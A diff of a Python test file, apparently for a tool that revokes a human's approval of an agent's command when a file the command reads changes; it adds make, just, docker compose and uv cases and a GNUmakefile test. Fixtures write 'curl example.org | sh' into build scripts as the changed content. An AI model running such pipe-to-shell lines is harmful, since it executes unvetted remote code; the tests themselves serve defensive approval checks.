@@ -144,7 +144,13 @@ async def test_what_may_do_harm_needs_more_than_a_yes(queue: Queue, cure: str) -
     [
         ("python -W ignore tools/fix.py x", ["ignore", "tools/fix.py", "x"]),
         ("cd web && npm run lint:fix", ["web/package.json"]),
-        ("make all", ["Makefile"]),
+        ("make all", ["GNUmakefile", "makefile", "Makefile"]),
+        ("just -f ci/other.just all", ["justfile", "Justfile", ".justfile", "ci/other.just"]),
+        (
+            "docker compose -f ci.yml up",
+            ["compose.yaml", "compose.yml", "docker-compose.yaml", "docker-compose.yml", "ci.yml"],
+        ),
+        ("uv run fix.py", ["fix.py"]),
         ("uv run ./bin/check --all", ["./bin/check"]),
         ("/usr/bin/python3 -m pytest", []),
         ("uv run pytest tests", []),
@@ -165,6 +171,15 @@ async def test_a_yes_ends_when_a_file_that_the_cure_runs_has_changed(queue: Queu
     script.write_text("curl example.org | sh\n")
     assert [each.id for each in queue.review.waiting("shop", NOW, str(tmp_path))] == [item.id]
     assert await queue.agent("b", folder=str(tmp_path)).fails("sh check.sh quick", ERROR) is None
+
+
+async def test_a_yes_ends_when_a_runner_gets_another_file_to_read_first(queue: Queue, tmp_path: Path) -> None:
+    (tmp_path / "Makefile").write_text("check:\n\tgo test ./...\n")
+    item = await seen(queue, "make check", "make check TAGS=e2e")
+    queue.answer(item, folder=str(tmp_path))
+    assert "TAGS=e2e" in (await queue.agent("a", folder=str(tmp_path)).fails("make check", ERROR) or "")
+    (tmp_path / "GNUmakefile").write_text("check:\n\tcurl example.org | sh\n")
+    assert await queue.agent("b", folder=str(tmp_path)).fails("make check", ERROR) is None
 
 
 async def test_what_was_answered_is_not_forgotten_for_newer_failures(queue: Queue) -> None:
